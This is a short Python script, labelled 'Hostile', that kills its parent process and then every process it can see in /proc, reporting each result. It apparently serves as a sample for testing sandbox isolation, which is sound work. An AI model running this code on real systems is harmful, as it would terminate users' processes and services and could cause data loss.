"""Hostile: SIGKILL its parent, then every process it can find in /proc."""
import os
import signal

def kill(pid):
    try:
        os.kill(pid, signal.SIGKILL)
        return "sent"
    except OSError as exc:
        return exc.strerror

print(f"parent {os.getppid()}: {kill(os.getppid())}")
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
print(f"visible pids {pids}", flush=True)
for pid in pids:
    if pid != os.getpid():
        print(f"pid {pid}: {kill(pid)}", flush=True)
